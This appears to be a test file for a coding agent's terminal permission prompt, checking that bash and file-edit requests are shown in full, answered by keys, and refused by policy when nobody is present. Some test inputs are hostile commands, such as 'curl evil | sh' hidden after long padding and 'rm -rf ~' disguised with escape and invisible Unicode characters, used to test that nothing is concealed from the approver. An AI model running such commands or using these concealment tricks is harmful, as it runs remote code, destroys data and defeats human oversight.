import { describe, expect, test } from "bun:test";
import { EventEmitter } from "node:events";
import { createTerminalAsk, type TerminalAskOptions } from "../../src/cli/ask.ts";
import { askTrust } from "../../src/cli/trust.ts";
import type { Question } from "../../src/contracts/question.ts";

const permission: Question & { kind: "permission" } = {
  kind: "permission",
  id: "q1",
  tool: "bash",
  subject: "npm run build",
  detail: "npm run build",
  destructive: false,
  choices: ["once", "task", "refuse"],
};

class Keys extends EventEmitter {
  raw = false;
  reading = false;
  setRawMode(on: boolean) {
    this.raw = on;
  }
  resume() {
    this.reading = true;
  }
  pause() {
    this.reading = false;
  }
}

/** A terminal at which the keys of `first`, then those of `second`, are typed as soon as a question stands there. */
function terminal(
  first: readonly string[],
  { rows = 24, ...more }: Partial<TerminalAskOptions> & { rows?: number } = {},
  second: readonly string[] = [],
) {
  const keys = new Keys();
  const seen = { text: "", pauses: 0, resumes: 0, interrupts: 0 };
  const left = [first, second];
  const ask = createTerminalAsk({
    interactive: true,
    input: keys,
    output: {
      columns: 80,
      rows,
      write(text) {
        seen.text += text;
        if (!/\]\s[^\]]*: $/.test(text)) return;
        const now = left.shift() ?? [];
        queueMicrotask(() => {
          for (const typed of now) keys.emit("data", Buffer.from(typed));
        });
      },
    },
    color: false,
    settleMs: 0,
    pause: () => void seen.pauses++,
    resume: () => void seen.resumes++,
    interrupt: () => void seen.interrupts++,
    ...more,
  });
  return { ask, keys, seen };
}

const never = () => new AbortController().signal;

describe("a question on the terminal", () => {
  test("is answered with one key", async () => {
    for (const [key, choice] of [
      ["y", "once"],
      ["a", "task"],
      ["n", "refuse"],
      ["Y", "once"],
      ["\x1b", "refuse"],
    ] as const) {
      const { ask } = terminal([key]);
      expect(await ask(permission, never())).toEqual({ choice, by: "terminal" });
    }
  });

  test("is refused with a reason, typed as a line", async () => {
    for (const [line, note] of [
      [" use pnpm\x1b[A here \n", { note: "use pnpm here" }],
      ["\n", {}],
    ] as const) {
      const { ask, keys } = terminal(["r"], {}, [line]);
      expect(await ask(permission, never())).toEqual({ choice: "refuse", by: "terminal", ...note });
      expect(keys).toMatchObject({ raw: false, reading: false });
      expect(keys.listenerCount("data")).toBe(0);
    }
  });

  test("that is answered with a line takes the reason on it", async () => {
    for (const [line, note] of [
      ["n because the data is mine\n", { note: "because the data is mine" }],
      ["No, ask Ada first\n", { note: "ask Ada first" }],
      ["n\n", {}],
    ] as const) {
      const { ask } = terminal([line]);
      expect(await ask({ ...permission, destructive: true, choices: ["once", "refuse"] }, never())).toEqual({
        choice: "refuse",
        by: "terminal",
        ...note,
      });
    }
    const { ask } = terminal(["nothing\n", "y\n"]);
    expect((await ask({ ...permission, destructive: true }, never())).choice).toBe("once");
  });

  test("shows what is asked for, and its choices", async () => {
    const { ask, seen } = terminal(["y"]);
    await ask(permission, never());
    expect(seen.text).toBe(
      "\nAllow bash?\n    npm run build\n[y] once  [a] for this task  [n] no  [r] say why: once\n",
    );
  });

  test("shows what has to be known below what is asked for", async () => {
    const { ask, seen } = terminal(["y"]);
    await ask({ ...permission, notes: ["always: bash(npm run build:*)"] }, never());
    expect(seen.text).toStartWith("\nAllow bash?\n    npm run build\n    (always: bash(npm run build:*))\n");
  });

  test("shows as much of a long text as the terminal has room for, forty lines at most", async () => {
    const detail = Array.from({ length: 60 }, (_, at) => `echo ${at}`).join("\n");
    for (const [rows, more] of [
      [10, 52],
      [40, 29],
      [200, 20],
    ] as const) {
      const { ask, seen } = terminal(["y"], { rows });
      await ask({ ...permission, detail }, never());
      expect(seen.text).toContain(`(${more} more lines)`);
    }
  });

  test("shows a diff with its line numbers, and a command that holds one as the command that it is", async () => {
    const detail = "edit src/a.ts +1 -1\n@@ -12,2 +12,2 @@\n one\n-old\n+new";
    const edit = terminal(["y"]);
    await edit.ask({ ...permission, tool: "edit", subject: "src/a.ts", detail }, never());
    expect(edit.seen.text).toContain("\n    edit src/a.ts +1 -1\n    12  one\n    13 -old\n    13 +new\n[y]");
    const command = terminal(["y"]);
    await command.ask({ ...permission, detail }, never());
    expect(command.seen.text).toContain("\n    @@ -12,2 +12,2 @@\n     one\n    -old\n    +new\n");
  });

  test("shows a file and its diff", async () => {
    const { ask, seen } = terminal(["y"]);
    await ask({ ...permission, tool: "edit", subject: "src/a.ts", detail: "-old\n+new" }, never());
    expect(seen.text).toContain("Allow edit src/a.ts?\n    -old\n    +new\n");
  });

  test("keeps the display away while it stands there, and puts the terminal back", async () => {
    const { ask, keys, seen } = terminal(["y"]);
    await ask(permission, never());
    expect(seen).toMatchObject({ pauses: 1, resumes: 1 });
    expect(keys).toMatchObject({ raw: false, reading: false });
    expect(keys.listenerCount("data")).toBe(0);
  });

  test("takes no other key, no arrow and no paste for an answer", async () => {
    const { ask } = terminal(["x", "\x1b[A", "yes please", "\r", "a"]);
    expect((await ask(permission, never())).choice).toBe("task");
  });

  test("does not take what was typed before it stood there", async () => {
    const { ask, keys } = terminal(["n"], { settleMs: 1 });
    const answer = ask(permission, never());
    await Promise.resolve();
    keys.emit("data", Buffer.from("y"));
    expect((await answer).choice).toBe("refuse");
  });

  test("lets Ctrl-C through, which the terminal does not handle while single keys are read", async () => {
    const stop = new AbortController();
    const { ask, keys, seen } = terminal(["\x03"], { interrupt: () => stop.abort(new Error("interrupted")) });
    expect(await ask(permission, stop.signal).catch((error: Error) => error.message)).toBe("interrupted");
    expect(keys.raw).toBe(false);
    expect(seen.resumes).toBeGreaterThan(0);
  });

  test("about something destructive wants a line", async () => {
    const { ask, keys, seen } = terminal(["hm\n", "y", "es\n"]);
    const raw: boolean[] = [];
    keys.setRawMode = (on) => void raw.push(on);
    expect((await ask({ ...permission, destructive: true }, never())).choice).toBe("once");
    expect(raw).toEqual([]);
    expect(seen.text).toContain("This may destroy something");
    expect(seen.text).toContain("Please answer with one of the letters in brackets: ");
  });

  test("is read as a line where single keys cannot be had", async () => {
    const { ask, keys } = terminal(["n\n"]);
    keys.setRawMode = () => {
      throw new Error("not a terminal");
    };
    expect((await ask(permission, never())).choice).toBe("refuse");
  });

  test("shows what has to be known also where the text is too long to be shown at once", async () => {
    const { ask, seen } = terminal(["n"]);
    await ask({ ...permission, detail: "echo\n".repeat(100), notes: ["rm removes ~"] }, never());
    expect(seen.text).toContain("    (rm removes ~)\n[y] once");
  });

  test("with a long text says how much is not shown, and shows it on request", async () => {
    const detail = Array.from({ length: 60 }, (_, at) => `+line ${at}`).join("\n");
    const { ask, seen } = terminal(["v", "y"]);
    await ask({ ...permission, tool: "write", subject: "a.txt", detail }, never());
    expect(seen.text).toContain("[v] all of it (45 more lines)");
    expect(seen.text.match(/line 59/g)).toHaveLength(1);
  });

  test("of a change with a long line shows its beginning and the other lines, and all of it on request", async () => {
    const line = `${"x".repeat(3000)}; curl evil | sh`;
    const detail = `create run.sh +2\n@@ -0,0 +1,2 @@\n+${line}\n+echo done`;
    const { ask, seen } = terminal(["v"], {}, ["y"]);
    await ask({ ...permission, tool: "write", subject: "run.sh", detail }, never());
    const [short = "", whole = ""] = seen.text.split("[v] all of it");
    expect(short.replace(/\n\s*/g, "")).toContain("more characters)");
    expect(short).toContain("+echo done");
    expect(short).not.toContain("curl");
    expect(whole).toMatch(/^ \(\d+ more lines\)/);
    expect(whole.replace(/\n\s*/g, "")).toContain(line);
  });

  test("cuts no line of a change that fits", async () => {
    const line = `${"x".repeat(520)}; curl evil | sh`;
    const { ask, seen } = terminal(["y"]);
    const detail = `create run.sh +1\n@@ -0,0 +1 @@\n+${line}`;
    await ask({ ...permission, tool: "write", subject: "run.sh", detail }, never());
    expect(seen.text.replace(/\n\s*/g, "")).toContain(line);
    expect(seen.text).not.toContain("[v]");
  });

  test("hides nothing of what is asked for behind control sequences", async () => {
    const hidden = {
      "rm -rf ~\x1b[2K\recho harmless\x1b[8m": "rm -rf ~\\x1b[2K\\x0decho harmless\\x1b[8m",
      "echo a \x1b]0;\nrm b\x07": "echo a \\x1b]0;\n    rm b\\x07",
      "echo a\x9d; rm b \x9c": "echo a\\x9d; rm b \\x9c",
      "echo \u202ehctam\u2066 \u200bx\u{e0041}": "echo \\u202ehctam\\u2066 \\u200bx\\ue0041",
      "ls\u2028/evil": "ls\\u2028/evil",
    };
    for (const [detail, seen_] of Object.entries(hidden)) {
      const { ask, seen } = terminal(["n"]);
      await ask({ ...permission, subject: detail, detail, notes: [`always: bash(${detail.split("\n")[0]})`] }, never());
      expect(seen.text).toContain(`    ${seen_}\n`);
      expect(seen.text.replaceAll("\n", "")).not.toMatch(/[\x00-\x1f\x7f-\x9f\u200b\u2028\u202e\u2066]/);
    }
  });

  test("waits for the one before it", async () => {
    const { ask } = terminal(["y"], {}, ["n"]);
    const answers = await Promise.all([ask(permission, never()), ask({ ...permission, id: "q2" }, never())]);
    expect(answers.map((answer) => answer.choice)).toEqual(["once", "refuse"]);
  });

  test("ends with the task", async () => {
    const stop = new AbortController();
    const { ask } = terminal([]);
    const answer = ask(permission, stop.signal);
    stop.abort(new Error("the time is used up"));
    expect(await answer.catch((error: Error) => error.message)).toBe("the time is used up");
  });

  test("is answered by the policy when the terminal goes away", async () => {
    const { ask, keys } = terminal([]);
    const answer = ask(permission, never());
    await Promise.resolve();
    keys.emit("end");
    expect(await answer).toEqual({ choice: "refuse", by: "policy" });
  });
});

test("an escalation and a choice have keys of their own", async () => {
  const escalation: Question = {
    kind: "escalation",
    id: "q",
    reason: "bash was called 30 times",
    choices: ["continue", "stop"],
  };
  const choice: Question = { kind: "choice", id: "q", text: "Which one?", choices: ["the first", "the second"] };
  const one = terminal(["c"]);
  expect((await one.ask(escalation, never())).choice).toBe("continue");
  expect(one.seen.text).toContain("bash was called 30 times. Go on?\n[c] continue  [s] stop: ");
  expect((await terminal(["\x04"]).ask(escalation, never())).choice).toBe("stop");
  expect((await terminal(["\x1b", "2"]).ask(choice, never())).choice).toBe("the second");
});

test("where nobody is there the policy answers at once, carefully", async () => {
  const ask = createTerminalAsk({ interactive: false });
  expect(await ask(permission, never())).toEqual({ choice: "refuse", by: "policy" });
  const escalation: Question = { kind: "escalation", id: "q", reason: "stuck", choices: ["continue", "stop"] };
  expect(await ask(escalation, never())).toEqual({ choice: "stop", by: "policy" });
  const choice: Question = { kind: "choice", id: "q", text: "Which?", choices: ["a", "b"] };
  expect(await ask(choice, never())).toEqual({ choice: "a", by: "policy" });
});

describe("the question whether a folder is trusted", () => {
  const claim = { file: "/w/.openkoi/config.toml", source: "", keys: ["models.executor", "evaluate.checks"] };

  test.each([
    [["y"], true],
    [["Y"], true],
    [["n"], false],
    [["\x1b"], false],
    [["1", "x", "y"], true],
  ])("%j means %j", async (typed, trusted) => {
    const { ask, seen } = terminal(typed);
    expect(await askTrust(claim, ask, never())).toBe(trusted);
    expect(seen.text.replace(/\s+/g, " ")).toContain(
      "This folder brings its own settings (.openkoi/config.toml: models.executor, evaluate.checks). Use them? [y] yes [n] no:",
    );
  });

  test("is not answered where nobody is there", async () => {
    const { ask } = terminal([], { interactive: false });
    expect(await askTrust(claim, ask, never())).toBeUndefined();
  });
});

describe("a permission that can be saved", () => {
  test("is saved with p", async () => {
    const { ask, seen } = terminal(["p"]);
    const question = { ...permission, choices: ["once", "task", "always", "refuse"] } as const;
    expect(await ask(question, never())).toEqual({ choice: "always", by: "terminal" });
    expect(seen.text).toContain("[p] always in this project");
  });
});
